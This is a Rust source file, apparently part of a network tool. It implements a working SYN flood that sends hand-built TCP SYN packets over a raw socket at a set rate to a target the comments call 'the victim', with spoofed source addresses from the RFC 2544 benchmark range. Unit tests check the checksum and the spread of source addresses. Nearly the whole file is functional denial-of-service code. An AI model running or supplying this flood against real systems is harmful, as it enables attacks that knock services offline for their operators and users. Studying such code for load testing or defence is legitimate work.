//! A SYN flood: hand-made packets from addresses that nobody has, so that nobody answers.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::OwnedFd,
    time::Duration,
};

use anyhow::{Context, Result};
use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};
use serde::{Deserialize, Serialize};
use tokio::time::{Instant, sleep};

use super::Account;

/// How often packets that are due are sent.
const TICK: Duration = Duration::from_millis(5);
/// Addresses for benchmarks of networks (RFC 2544): nobody's.
const SOURCES: u32 = 0xc612_0000;
/// Visits every source and port in an order that looks random.
const STRIDE: u32 = 2_654_435_761;

/// A flood and its settings.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[expect(
    clippy::unsafe_derive_deserialize,
    reason = "what is unsafe is inside tokio's macros"
)]
pub struct Flood {
    /// The victim.
    pub to: SocketAddrV4,
    /// Packets per second.
    pub rate: u32,
    /// Different source addresses, at most 65536.
    pub sources: u32,
}

impl Flood {
    pub(super) async fn run(&self) -> Result<()> {
        let socket = socket_with(
            AddressFamily::INET,
            SocketType::RAW,
            SocketFlags::CLOEXEC,
            Some(ipproto::RAW),
        )
        .context("open a raw socket")?;
        let account = Account::default();
        tokio::try_join!(account.keep_reporting(), self.pour(&socket, &account))?;
        Ok(())
    }

    async fn pour(&self, socket: &OwnedFd, account: &Account) -> Result<()> {
        let begun = Instant::now();
        let mut sent: u32 = 0;
        loop {
            let due = begun.elapsed().as_millis() * u128::from(self.rate) / 1000;
            while u128::from(sent) < due {
                let packet = self.packet(sent.wrapping_mul(STRIDE));
                sendto(socket, &packet, SendFlags::empty(), &self.to).context("send a SYN")?;
                sent += 1;
            }
            account.change(|tally| tally.started = u64::from(sent));
            sleep(TICK).await;
        }
    }

    /// An IPv4 packet with a SYN in it, whose source comes from `number`.
    fn packet(&self, number: u32) -> Vec<u8> {
        let source = Ipv4Addr::from(SOURCES | (number % self.sources.clamp(1, 1 << 16)));
        let [_, _, high, low] = number.rotate_left(16).to_be_bytes();
        let port = u16::from_be_bytes([high | 0x80, low]);
        let ends = [source.octets(), self.to.ip().octets()].concat();
        let mut tcp = Vec::with_capacity(20);
        tcp.extend(port.to_be_bytes());
        tcp.extend(self.to.port().to_be_bytes());
        tcp.extend(number.to_be_bytes());
        // No acknowledgement; 5 words of header; SYN; a usual window; checksum and urgent pointer.
        tcp.extend([0, 0, 0, 0, 0x50, 2, 0xfa, 0xf0, 0, 0, 0, 0]);
        let sum = checksum(&[&ends[..], &[0, 6, 0, 20], &tcp].concat());
        tcp[16..18].copy_from_slice(&sum);
        // The kernel fills in the length, the identification and the checksum of the IP header.
        let ip = [0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0];
        [&ip[..], &ends, &tcp].concat()
    }
}

/// The internet checksum (RFC 1071) of an even number of bytes.
fn checksum(bytes: &[u8]) -> [u8; 2] {
    let words = bytes.as_chunks::<2>().0;
    let mut sum: u32 = words
        .iter()
        .map(|word| u32::from(u16::from_be_bytes(*word)))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let [_, _, high, low] = (!sum).to_be_bytes();
    [high, low]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_of_a_packet_with_its_checksum_is_zero() {
        let flood = Flood {
            to: SocketAddrV4::new(Ipv4Addr::new(10, 77, 1, 2), 80),
            rate: 1,
            sources: 256,
        };
        let packet = flood.packet(12_345);
        assert_eq!(packet.len(), 40);
        let pseudo = [&packet[12..20], &[0, 6, 0, 20], &packet[20..]].concat();
        assert_eq!(checksum(&pseudo), [0, 0]);
    }

    #[test]
    fn sources_are_as_many_as_asked_for() {
        let flood = Flood {
            to: SocketAddrV4::new(Ipv4Addr::new(10, 77, 1, 2), 80),
            rate: 1,
            sources: 100,
        };
        let sources: std::collections::BTreeSet<Vec<u8>> = (0_u32..2000)
            .map(|number| flood.packet(number.wrapping_mul(STRIDE))[12..16].to_vec())
            .collect();
        assert_eq!(sources.len(), 100);
    }
}
